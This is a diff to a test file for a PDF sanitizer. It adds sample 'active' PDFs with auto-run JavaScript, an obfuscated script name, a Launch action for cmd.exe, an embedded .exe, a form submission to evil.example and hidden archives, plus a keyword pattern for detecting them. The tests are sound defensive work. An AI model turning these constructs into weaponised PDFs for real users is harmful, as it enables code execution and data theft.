@@ -1,4 +1,6 @@
+import { deflateSync } from "node:zlib";
 import { describe, expect, it } from "vitest";
+import { isActivePdf } from "@/lib/adapters/pictures/active-pdf";
 import { childPictures } from "@/lib/adapters/pictures/child-pictures";
 import { isAppError } from "@/lib/core/errors";
 import { makePdf } from "@/tests/support/make-pdf";
@@ -83,4 +85,62 @@ describe("a PDF", () => {
     }
     expect([...outcomes].sort()).toEqual(["1 pages", "refused"]);
   }, 60_000);
+});
+
+/** A stream object of these bytes. */
+const stream = (dictionary: string, bytes: Buffer) =>
+  Buffer.concat([text(`<< ${dictionary} /Length ${bytes.length} >>\nstream\n`), bytes, text("\nendstream")]);
+/** Two objects that lie compressed in another one. */
+const hidden = (content: string) =>
+  stream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", deflateSync(text(`9 0 ${content}`)));
+const SCRIPT = "/S /JavaScript /JS (app.alert\\(1\\))";
+/** PDFs that do more than being read. */
+const ACTIVE: Record<string, Buffer> = {
+  "a script at its opening": makePdf({ catalog: `/OpenAction << ${SCRIPT} >>` }),
+  "a script whose name is disguised": makePdf({ catalog: "/OpenAction << /S /J#61vaScript /#4aS (1) >>" }),
+  "a script among its names": makePdf({ catalog: `/Names << /JavaScript << /Names [(a) << ${SCRIPT} >>] >> >>` }),
+  "a script at its page": makePdf({ page: `/AA << /O << ${SCRIPT} >> >>` }),
+  "a script of a link": makePdf({
+    page: `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A << ${SCRIPT} >> >>]`,
+  }),
+  "a program that it starts": makePdf({ catalog: "/OpenAction << /S /Launch /F (cmd.exe) >>" }),
+  "a file inside": makePdf({
+    catalog: "/Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>] >> >>",
+    more: [stream("/Type /EmbeddedFile", text("canari"))],
+  }),
+  "a form that it sends": makePdf({ catalog: "/OpenAction << /S /SubmitForm /F (https://evil.example) >>" }),
+  "a form of another kind": makePdf({
+    catalog: "/AcroForm << /Fields [] /XFA 6 0 R >>",
+    more: [stream("", text("<xdp>canari</xdp>"))],
+  }),
+  "an archive in a part that nothing shows": makePdf({
+    more: [stream("", text("PK\u0003\u0004canari PK\u0005\u0006"))],
+  }),
+  "compressed objects with a script": makePdf({ more: [hidden(`<< ${SCRIPT} >>`)] }),
+  "objects that cannot be looked into": makePdf({ more: [stream("/Type /ObjStm /N 1 /First 4", text("canari"))] }),
+};
+
+describe("a PDF that does more than being read", () => {
+  it.each(Object.keys(ACTIVE))("is its pages alone afterwards: %s", async (what) => {
+    const sent = ACTIVE[what] ?? Buffer.alloc(0);
+    expect(isActivePdf(sent)).toBe(true);
+    const { bytes, widthPx, heightPx } = await open(sent);
+    expect(isActivePdf(bytes)).toBe(false);
+    expect(bytes.toString("latin1")).not.toMatch(
+      /JavaScript|Launch|Embedded|SubmitForm|XFA|OpenAction|\/AA|canari|PK\u0003/,
+    );
+    expect(await readPdf(bytes)).toMatchObject({ pageCount: 1, text: "AH 1007" });
+    expect([widthPx, heightPx]).toEqual([595, 842]);
+  });
+
+  it("is not what opens at a page, links to one or holds harmless objects: that stays as it came", async () => {
+    for (const sent of [
+      makePdf({ catalog: "/OpenAction [3 0 R /Fit]" }),
+      makePdf({
+        page: "/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://airalgerie.dz) >> >>]",
+      }),
+      makePdf({ more: [hidden("<< /Type /Metadata >>")] }),
+    ])
+      expect((await open(sent)).bytes.equals(sent)).toBe(true);
+  });
 });
